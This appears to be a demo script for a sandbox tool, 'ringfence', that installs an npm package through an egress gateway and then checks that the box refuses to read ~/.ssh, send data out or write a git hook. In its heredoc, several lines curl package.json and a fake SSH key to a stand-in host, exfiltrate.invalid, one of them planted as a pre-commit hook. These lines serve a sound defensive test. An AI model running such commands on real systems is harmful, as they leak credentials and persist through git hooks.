#!/usr/bin/env bash
# npm run demo: a fresh npm project installs a real package from the npm registry inside a
# ringfence box, through the egress gateway. Then the same box tries to read ~/.ssh, reach a
# host that is not allowed, and write a git hook, and all three are refused.
#
# The registry host comes from `npm config get registry` at run time. The demo uses a temporary
# home directory with a made-up key in ~/.ssh, so no real secret is involved.
set -euo pipefail
repo=$(cd "$(dirname "$0")/.." && pwd)

if ! command -v bwrap >/dev/null; then
  if [ "$(id -u)" = 0 ] && command -v apt-get >/dev/null; then
    echo "demo: installing bubblewrap"
    apt-get install -y -qq bubblewrap >/dev/null
  else
    echo "demo: bubblewrap is missing; install it with: sudo apt-get install bubblewrap" >&2
    exit 1
  fi
fi
if [ ! -f "$repo/dist/cli.cjs" ]; then
  (cd "$repo" && npm run build >/dev/null)
fi
ringfence="$repo/bin/ringfence"

registry=$(npm config get registry)
registry_host=$(node -e 'const url = new URL(process.argv[1]); console.log(url.port === "" ? url.hostname : `${url.hostname}:${url.port}`)' "$registry")

demo=$(mktemp -d "${TMPDIR:-/tmp}/ringfence-demo-XXXXXX")
trap 'rm -rf "$demo"' EXIT
mkdir -p "$demo/home/.ssh" "$demo/project"
echo "-----BEGIN OPENSSH PRIVATE KEY----- (made up for the demo)" > "$demo/home/.ssh/id_ed25519"
chmod 700 "$demo/home/.ssh" && chmod 600 "$demo/home/.ssh/id_ed25519"

cd "$demo/project"
npm init -y >/dev/null
git init -q .
cat > steps.sh <<'EOF'
echo "== step 1: npm install ms, through the gateway"
export npm_config_update_notifier=false
npm install --no-audit --no-fund --loglevel=error ms
node -e 'console.log("require(\"ms\")(\"2 days\") =", require("ms")("2 days"))'

echo "== step 2: what the box must refuse"
echo "-- read ~/.ssh/id_ed25519"
cat ~/.ssh/id_ed25519 || true
echo "-- reach a host that is not allowed"
curl -sS -m 10 https://exfiltrate.invalid/upload -d @package.json || true
echo "-- write .git/hooks/pre-commit"
echo 'curl https://exfiltrate.invalid/$(cat ~/.ssh/id_ed25519)' > .git/hooks/pre-commit || true
EOF

echo "registry (from npm config): $registry"
echo "host: ls ~/.ssh -> $(ls "$demo/home/.ssh")"
echo
echo "\$ ringfence run --allow $registry_host -- sh steps.sh"
status=0
# npm_config_registry carries the registry setting, because the box cannot see ~/.npmrc. The
# CA bundle variable is passed when the host sets one, for registries behind a TLS proxy.
env_flags=(--env npm_config_registry)
if [ -n "${NODE_EXTRA_CA_CERTS:-}" ]; then env_flags+=(--env NODE_EXTRA_CA_CERTS); fi
HOME="$demo/home" npm_config_registry="$registry" "$ringfence" run --allow "$registry_host" "${env_flags[@]}" -- sh steps.sh || status=$?

echo
echo "== after the run, on the host"
if [ -d node_modules/ms ]; then echo "node_modules/ms installed: yes"; else echo "node_modules/ms installed: NO"; status=1; fi
if [ -e .git/hooks/pre-commit ]; then echo ".git/hooks/pre-commit exists: YES (the box wrote it)"; status=1; else echo ".git/hooks/pre-commit exists: no"; fi
echo
echo "== the run's audit record (ringfence audit show last; ringfence audit verify last)"
HOME="$demo/home" "$ringfence" audit show last --type network run || status=1
HOME="$demo/home" "$ringfence" audit verify last || status=1
exit "$status"
